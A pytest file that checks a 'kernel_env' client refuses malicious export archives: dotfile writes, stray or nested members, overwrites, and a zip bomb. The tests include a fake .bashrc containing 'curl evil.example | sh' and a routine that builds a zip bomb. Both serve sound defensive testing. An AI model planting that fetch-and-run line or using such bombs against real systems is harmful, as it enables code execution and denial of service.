"""Issue 14, item 6: a malicious server cannot make the client's export write dotfiles, files
outside the episode, over existing files, or unpack a zip bomb."""

from __future__ import annotations

import contextlib
import io
import subprocess
import sys
import threading
import zipfile
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from kernel_env.archive import ArchiveError, extract_export

pytestmark = pytest.mark.timeout(120)

NOTEBOOK = '{"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}'


def _zip(members: dict[str, str]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in members.items():
            archive.writestr(name, text)
    return buffer.getvalue()


def _bomb(name: str, size: int) -> bytes:
    """``name`` holding ``size`` zero bytes, deflated (~1000x)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("ep.ipynb", NOTEBOOK)
        with archive.open(name, "w", force_zip64=True) as member:
            chunk = bytes(1 << 20)
            for _ in range(size >> 20):
                member.write(chunk)
    return buffer.getvalue()


@contextlib.contextmanager
def malicious_server(payload: bytes) -> Iterator[str]:
    """A loopback 'kernel-env server' whose export.zip is ``payload``."""

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "application/zip")
            self.send_header("Content-Length", str(len(payload)))
            self.end_headers()
            self.wfile.write(payload)

        def log_message(self, *args: object) -> None:
            return

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}"
    finally:
        server.shutdown()
        server.server_close()


def _cli_export(url: str, target: Path, *extra: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [
            sys.executable,
            "-m",
            "kernel_env",
            "export",
            "0123abcd",
            "--url",
            url,
            "-o",
            str(target),
            *extra,
        ],
        capture_output=True,
        text=True,
        timeout=60,
    )


@pytest.mark.integration
def test_a_server_cannot_overwrite_dotfiles(tmp_path: Path) -> None:
    """`kernel-env export` into a home directory: an archive with .bashrc beside the notebook
    is refused as a whole; .bashrc is untouched and nothing else is written."""
    home = tmp_path / "home"
    home.mkdir()
    (home / ".bashrc").write_text("# mine\n")
    payload = _zip({"ep.ipynb": NOTEBOOK, ".bashrc": "curl evil.example | sh\n"})
    with malicious_server(payload) as url:
        result = _cli_export(url, home / "ep.ipynb")
    assert result.returncode == 2
    assert "not a plain file name" in result.stderr
    assert (home / ".bashrc").read_text() == "# mine\n"
    assert sorted(p.name for p in home.iterdir()) == [".bashrc"]


@pytest.mark.parametrize("name", ["other.ipynb", "ep.ipynb.sh", "ep.pth", "sub/ep.ipynb"])
def test_only_the_episodes_own_files_are_written(tmp_path: Path, name: str) -> None:
    """Members not named after the requested notebook (or with other suffixes) are refused."""
    with pytest.raises(ArchiveError):
        extract_export(_zip({"ep.ipynb": NOTEBOOK, name: "x"}), tmp_path, stem="ep")
    assert list(tmp_path.iterdir()) == []


@pytest.mark.integration
def test_existing_files_are_kept_unless_overwrite_is_asked(tmp_path: Path) -> None:
    """An export over an existing notebook is refused; with --overwrite it replaces it."""
    (tmp_path / "ep.ipynb").write_text("precious")
    payload = _zip({"ep.ipynb": NOTEBOOK})
    with malicious_server(payload) as url:
        refused = _cli_export(url, tmp_path / "ep.ipynb")
        assert refused.returncode == 2 and "overwrite" in refused.stderr
        assert (tmp_path / "ep.ipynb").read_text() == "precious"
        replaced = _cli_export(url, tmp_path / "ep.ipynb", "--overwrite")
    assert replaced.returncode == 0, replaced.stderr
    assert (tmp_path / "ep.ipynb").read_text() == NOTEBOOK


@pytest.mark.integration
def test_a_zip_bomb_is_refused_with_flat_memory(tmp_path: Path) -> None:
    """A ~0.6 MB archive that unpacks to 600 MB is refused while it streams: the unpacking
    process stays far below the bomb's size, and no partial file is left."""
    bomb = tmp_path / "bomb.zip"
    bomb.write_bytes(_bomb("ep.context.txt", 600 << 20))
    assert bomb.stat().st_size < 2 << 20
    # VmHWM, not ru_maxrss: the latter keeps the forking parent's size across exec.
    probe = (
        "import re\n"
        "from kernel_env.archive import ArchiveError, extract_export\n"
        "try:\n"
        f"    extract_export(open({str(bomb)!r}, 'rb').read(), {str(tmp_path / 'out')!r})\n"
        "except ArchiveError as exc:\n"
        "    print('refused:', exc)\n"
        "print(re.search(r'VmHWM:\\s+(\\d+)', open('/proc/self/status').read()).group(1))\n"
    )
    result = subprocess.run(
        [sys.executable, "-c", probe], capture_output=True, text=True, timeout=60
    )
    assert result.returncode == 0, result.stderr
    refused, peak_kib = result.stdout.strip().splitlines()
    assert refused.startswith("refused:") and "200x its compressed size" in refused
    assert int(peak_kib) < 300 * 1024  # KiB: far below the 600 MB the bomb holds
    assert list((tmp_path / "out").iterdir()) == []
